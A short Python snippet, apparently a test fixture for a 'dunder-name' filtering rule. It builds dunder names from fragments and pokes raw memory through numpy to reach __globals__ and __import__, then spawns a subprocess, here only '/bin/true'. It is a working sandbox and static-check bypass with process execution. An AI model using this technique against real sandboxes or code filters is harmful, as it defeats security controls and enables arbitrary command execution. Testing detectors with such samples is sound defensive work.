# The same way to memory imports a module.
text = pd.Series(['__array_', 'interface__', 'types', 'tr'])
def memory(at, size):
    return np.asarray(pd.Series({text[:2].sum(): {'data': (at, False), text[2:].sum(): '|u1', 'shape': (size,), 'version': 3}}))
s = 'aaaaaaaaaaa'
def f():
    return f.aaaaaaaaaaa
memory(id(s) + 48, 11)[:] = [95, 95, 103, 108, 111, 98, 97, 108, 115, 95, 95]
memory(id(s) + 24, 8)[:] = 255
for v in list(f().values()):
    if isinstance(v, dict) and 'eval' in v:
        for n in list(v):
            if n.endswith('import__'):
                m = v[n]('sub' + 'process')
                for x, y in list(v.items()):
                    if x == 'getattr':
                        y(m, 'Pop' + 'en')(['/bin/true'])
# rule: dunder-name
